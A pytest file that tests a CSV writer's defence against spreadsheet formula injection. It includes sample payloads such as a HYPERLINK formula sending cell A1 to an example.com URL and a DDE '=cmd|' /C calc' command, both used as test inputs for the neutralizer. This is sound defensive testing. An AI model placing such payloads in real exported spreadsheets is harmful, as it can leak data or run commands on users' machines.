"""CSV for spreadsheets: nothing in it is run, numbers stay numbers, and it is read back without loss."""

from __future__ import annotations

import ast
import csv
import io
import re

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from t2onet.data.spreadsheet import from_csv, neutralize_cell, restore_cell, to_csv
from tests.conftest import ROOT

FORMULAS = [
    *('=HYPERLINK("http://example.com/?"&A1,"open")', "=1+1", "+1+1", "-1+1", "@SUM(A1:A9)", "-"),
    *("\t=1+1", "\r=1+1", "\n=1+1", "  =1+1", "＝1+1", "-2 stops", "+10 contrast", "'=1+1", "''@x"),
    *(
        "\ufeff=1+1",
        "\u200b=1+1",
        "\u200e\u2060@x",
        "\xad-x",
        "\x00=1+1",
        "\u034f=1+1",
        " \u180e+x",
        "\u3164=1",
    ),
]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_text_that_would_be_run_begins_with_an_apostrophe(text: str) -> None:
    written = neutralize_cell(text)
    assert isinstance(written, str)
    assert written.startswith(f"'{text[0]}")
    assert restore_cell(written) == text


@pytest.mark.parametrize(
    ("text", "written"),
    [("x;=1+1", "x;'=1+1"), ("a; b; -2 stops", "a; b;' -2 stops"), ("1;-5", "1;'-5"), ("x\n@y", "x\n'@y")],
)
def test_a_part_that_some_spreadsheets_take_for_a_cell_is_none_they_run(text: str, written: str) -> None:
    assert neutralize_cell(text) == written
    assert restore_cell(written) == text


@pytest.mark.parametrize("cell", [-0.5, -3, "-0.5", "+3", "-1.5e-07", "-.5", ".5", 7, None, True])
def test_numbers_stay_numbers(cell: object) -> None:
    assert neutralize_cell(cell) is cell


@pytest.mark.parametrize(
    "text", ["'tis too dark", "a = b", "make it warmer - a little", "", "'quoted'", "5 %"]
)
def test_other_texts_stay_as_they_are(text: str) -> None:
    assert neutralize_cell(text) == restore_cell(text) == text


def test_in_a_csv_of_ones_own_an_apostrophe_before_a_sign_is_written_twice() -> None:
    requests = from_csv("request\n'-ish' look\n''-ish' look\n'warm' look\n")
    assert [row["request"] for row in requests] == ["-ish' look", "'-ish' look", "'warm' look"]


@given(st.text(st.sampled_from("'=+-@ \t\r\n\",;1.eab\ufeff\u200b")))
@example("'-5")
@example("\r")
@example("'\t=x;'-1;'=1;-1")
def test_reading_back_is_lossless(text: str) -> None:
    assert from_csv(to_csv([["before", "text"], ["x", text]])) == [{"before": "x", "text": text}]


@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
@given(st.text(st.sampled_from("'=+-@ \t\r\n\",;1a"), min_size=1))
@example('x;"=1+1')
@example("x;=cmd|' /C calc'!A0")
def test_no_cell_begins_like_a_formula_but_a_number(delimiter: str, text: str) -> None:
    """Whatever a spreadsheet takes for the separator, as it does by its language."""
    written = io.StringIO(to_csv([["request", text, "end"]]), newline="")
    for row in csv.reader(written, delimiter=delimiter):
        for cell in row:
            if cell.lstrip().startswith(("=", "+", "-", "@")):
                assert re.match(r"[+-]?1+(,|$)", cell), cell


@pytest.mark.slow
def test_every_csv_is_written_here() -> None:
    """No other module has a writer of its own."""
    package = ROOT / "t2onet"
    names = {"csv.writer", "csv.DictWriter"}
    found = {
        path.relative_to(package).as_posix()
        for path in package.rglob("*.py")
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8")))
        if isinstance(node, ast.Attribute) and ast.unparse(node) in names
    }
    assert found == {"data/spreadsheet.py"}
